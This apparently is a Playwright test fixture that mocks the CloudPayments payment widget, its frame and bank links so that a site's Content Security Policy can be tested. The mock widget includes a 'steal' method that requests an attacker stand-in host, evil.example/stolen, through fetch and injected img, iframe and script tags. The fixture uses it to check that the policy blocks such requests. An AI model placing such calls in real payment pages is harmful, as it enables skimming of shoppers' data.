import type { BrowserContext, Route } from 'playwright-core';

/**
 * The payment window as the provider delivers it, with the calls of the real one: a script in the page that asks two
 * more hosts, a frame of the provider with pictures of banks, a bank's 3-D Secure page inside that frame, and links to
 * the apps of banks. Sources: https://developers.cloudpayments.ru (payment widget, SBP, SberPay, T-Pay); the policies
 * of other shops name the same hosts.
 */

/** The address that a deploy compiles into the site. */
export const WIDGET_URL = 'https://widget.cloudpayments.ru/bundles/cloudpayments.js';

const FRAME_URL = 'https://widget.cloudpayments.ru/frame';
/** What the script asks and shows in the page itself. */
const FROM_THE_PAGE = {
  intent: 'https://intent-api.cloudpayments.ru/api/intent',
  configuration: 'https://api.cloudpayments.ru/merchant/configuration/local_public_id',
  picture: 'https://static.cloudpayments.ru/banks/sberbank.png',
};
/** What the frame asks and shows. Its own policy applies to it, not the site's. */
const FROM_THE_FRAME = {
  banks: 'https://qr.nspk.ru/proxyapp/c2bmembers.json',
  picture: 'https://qr.nspk.ru/proxyapp/logo/bank100000000111.png',
  bank: 'https://acs.bank.example/3ds',
};
/** Links of the frame to the apps of banks: SBP, SberPay, T-Pay. They open a page of their own. */
export const BANK_LINKS = {
  СБП: 'https://qr.nspk.ru/AS100001ORTF4GAF80KPJ53K186D9A3G?type=02&sum=100&cur=RUB',
  SberPay: 'https://sberpay.online/pay?bankInvoiceId=1',
  'T-Pay': 'https://www.tbank.ru/tpay/1',
};

/** A host that the policy does not name. */
export const FOREIGN = 'https://evil.example';
const STOLEN = `${FOREIGN}/stolen`;

const WIDGET = `window.cp = { CloudPayments: class {
  async start(intent) {
    const ask = (url, options) => fetch(url, options).then(({ ok }) => ok);
    const show = (element, url) => new Promise((resolve) => {
      Object.assign(element, { onload: () => resolve(true), onerror: () => resolve(false), src: url });
      document.body.append(element);
    });
    const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(intent) };
    const frame = Object.assign(document.createElement('iframe'), { title: 'Окно оплаты', allow: 'payment' });
    Object.assign(frame.style, { position: 'fixed', inset: 0, width: '100%', height: '100%', zIndex: 2147483647 });
    const done = new Promise((resolve) => addEventListener('message', ({ origin, data }) => {
      if (origin === '${new URL(FRAME_URL).origin}') resolve(data);
    }));
    window.widgetCalls = {
      intent: await ask('${FROM_THE_PAGE.intent}', json),
      configuration: await ask('${FROM_THE_PAGE.configuration}'),
      picture: await show(new Image(), '${FROM_THE_PAGE.picture}'),
      frame: await show(frame, '${FRAME_URL}'),
    };
    const result = await done;
    frame.remove();
    return result;
  }
  async steal() {
    await fetch('${STOLEN}').catch(() => undefined);
    for (const kind of ['img', 'iframe', 'script'])
      document.body.append(Object.assign(document.createElement(kind), { src: '${STOLEN}?' + kind }));
  }
} };`;

// The function comes first: a picture may have loaded before the end of the page is read.
const FRAME = `<!doctype html><title>Окно оплаты</title><body>
<p id="calls"></p>
<script>function note(name) { document.getElementById('calls').append(name + ' '); }</script>
${Object.entries(BANK_LINKS)
  .map(([name, url]) => `<a href="${url}" target="_blank" rel="noopener">${name}</a>`)
  .join('\n')}
<img src="${FROM_THE_FRAME.picture}" alt="" onload="note('picture')">
<iframe src="${FROM_THE_FRAME.bank}" title="Банк" onload="note('bank')"></iframe>
<button onclick="parent.postMessage({ type: 'cancel' }, '*')">Закрыть</button>
<script>fetch('${FROM_THE_FRAME.banks}').then(() => note('banks'));</script>`;

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Plays the provider and the banks in this browser. Returns the requests that left the page, by their address. */
export async function playProvider(context: BrowserContext): Promise<string[]> {
  const requested: string[] = [];
  const cors = {
    'access-control-allow-origin': '*',
    'access-control-allow-headers': 'content-type',
    'cross-origin-resource-policy': 'cross-origin',
  };
  const respond = (route: Route) => {
    const url = route.request().url();
    requested.push(url);
    if (url === WIDGET_URL) return route.fulfill({ contentType: 'text/javascript', headers: cors, body: WIDGET });
    if (url === FRAME_URL) return route.fulfill({ contentType: 'text/html; charset=utf-8', body: FRAME });
    if (url.endsWith('.png')) return route.fulfill({ contentType: 'image/png', headers: cors, body: PIXEL });
    if (/\/api\/|configuration|\.json$/.test(url)) return route.fulfill({ headers: cors, json: {} });
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Банк</title>' });
  };
  await context.route(
    /^https:\/\/([\w-]+\.)*(cloudpayments\.ru|nspk\.ru|sberpay\.online|tbank\.ru|bank\.example)\//,
    respond,
  );
  await context.route(`${FOREIGN}/**`, respond);
  return requested;
}
